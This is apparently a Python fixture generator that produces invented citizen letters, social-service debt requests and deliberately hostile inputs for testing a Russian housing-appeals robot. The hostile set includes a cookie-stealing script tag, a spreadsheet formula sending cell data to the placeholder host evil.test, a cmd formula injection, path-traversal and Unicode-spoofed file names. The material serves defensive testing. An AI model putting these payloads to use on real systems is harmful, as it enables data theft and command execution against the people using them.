"""What citizens and services write in «Обращения»: ordinary letters, debt requests in disguise, and hostile texts.

Deterministic by the generator given. All people and addresses are invented.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from functools import cache
from random import Random
from typing import Any
from uuid import UUID

from rpa.stand.acts import text_pdf
from rpa.stand.addresses import House
from rpa.stand.people import make_person

LONGEST_TEXT = 10_000  # schema appeals 15.11.0.0

_TOPICS = (
    "Содержание общего имущества", "Начисление платы за ЖКУ", "Отопление", "Водоснабжение",
    "Уборка придомовой территории",
    "Перерасчёт", "Капитальный ремонт",
)  # fmt: skip
_LETTERS = (
    "Добрый день! В подъезде третий день не горит свет на площадке между этажами. Прошу восстановить освещение.",
    "Прошу разъяснить начисление за отопление за прошлый месяц: сумма выросла в полтора раза.",
    "Течёт стояк в ванной, вызывали слесаря дважды.\nПросим прислать специалиста и составить акт.",
    "Прошу сделать перерасчёт за дни, когда не было горячей воды. Ответ направьте на электронную почту.",
    "Во дворе не вывозят мусор с пятницы.",
)
# Texts that break a careless reader: markup, formulas, bidi marks, control characters, names of paths.
HOSTILE_TEXTS = (
    "<script>window.stolen = document.cookie</script><img src=x onerror=\"alert('обращение')\"> Прошу ответить.",
    '=HYPERLINK("http://evil.test/?"&A1;"Открыть ответ")',
    "+7-000-000 @SUM(1+1)*cmd|' /C calc'!A0",
    "Файл \u202efdp.exe\u202c приложен.\u200b Прошу\u00a0открыть.",
    "{{constructor.constructor('alert(1)')()}} ${7*7} %s %n \\u0000 \x07\x1b[31mкрасный\x1b[0m",
)
_HOSTILE_NAMES = (
    "../../x.exe",
    "..\\..\\Автозагрузка\\run.bat",
    "CON",
    "акт<script>.pdf",
    "=cmd.pdf",
    "отчёт\u202efdp.exe",
)


@dataclass(frozen=True, slots=True)
class StoredFile:
    guid: str
    name: str
    content: bytes

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.content).hexdigest()

    def reference(self) -> dict[str, Any]:
        return {"guid": self.guid, "name": self.name, "size": len(self.content), "sha256": self.sha256}


@dataclass(frozen=True, slots=True)
class Letter:
    """``kind`` is for tests: ``ordinary``, ``debt_request`` or ``hostile``."""

    kind: str
    topic: str
    text: str
    applicant: dict[str, Any]
    files: tuple[StoredFile, ...]


def make_letter(rng: Random, index: int, house: House, flat: str | None) -> Letter:
    """Letter ``index``: every fifth asks about a debt, every seventh other is hostile, every third has a file."""
    if index % 5 == 2:
        return _debt_request(rng, house, flat)
    person = make_person(rng)
    applicant = {
        "fio": person.fio,
        "postAddress": f"{house.portal()}{f', кв. {flat}' if flat else ''}",
        "phone": f"+7 (000) {rng.randrange(1000):03d}-{rng.randrange(100):02d}-{rng.randrange(100):02d}",
        "email": f"zhitel{index}@citizens.test" if rng.random() < 0.7 else None,
    }
    if index % 7 == 3:
        number = index // 7
        text = HOSTILE_TEXTS[number % len(HOSTILE_TEXTS)]
        if number % 6 == 5:
            text = ("Жалоба. " * (LONGEST_TEXT // 8 + 1))[:LONGEST_TEXT]
        name = _HOSTILE_NAMES[number % len(_HOSTILE_NAMES)]
        return Letter("hostile", rng.choice(_TOPICS), text, applicant, (_file(rng, name, b"MZ not a program"),))
    files: tuple[StoredFile, ...] = ()
    if index % 3 == 0:
        files = (_file(rng, f"Заявление {index + 1}.pdf", _application()),)
    return Letter("ordinary", rng.choice(_TOPICS), rng.choice(_LETTERS), applicant, files)


def _debt_request(rng: Random, house: House, flat: str | None) -> Letter:
    """A social service that asks about a debt by letter instead of the proper section."""
    person = make_person(rng)
    where = f"{house.portal()}{f', кв. {flat}' if flat else ''}"
    text = (
        "В соответствии со ст. 159 и 160 ЖК РФ просим сообщить о наличии (отсутствии) подтверждённой вступившим "
        "в законную силу судебным актом непогашенной задолженности по оплате жилого помещения и коммунальных услуг, "
        f"образовавшейся за период не более трёх последних лет.\n"
        f"Гражданин: {person.fio}\nАдрес: {where}\nСрок ответа — 5 рабочих дней."
    )
    applicant = {
        "organization": "ГКУ ЗО «Центр социальной защиты населения г. Синегорска»",
        "postAddress": "600001, обл. Заозёрная, г. Синегорск, ул. Мира, д. 1",
        "phone": "8 (000) 555-01-01",
        "email": "zapros@szn.test",
    }
    content = text_pdf(["Запрос о наличии задолженности", person.fio, where])
    return Letter("debt_request", "Запрос о задолженности", text, applicant, (_file(rng, "Запрос.pdf", content),))


@cache
def _application() -> bytes:
    """One page for all ordinary letters: ten thousand of them must not draw ten thousand pages."""
    return text_pdf(["Заявление", "Приложение к обращению. Все данные вымышлены."])


def _file(rng: Random, name: str, content: bytes) -> StoredFile:
    return StoredFile(str(UUID(int=rng.getrandbits(128), version=4)), name, content)
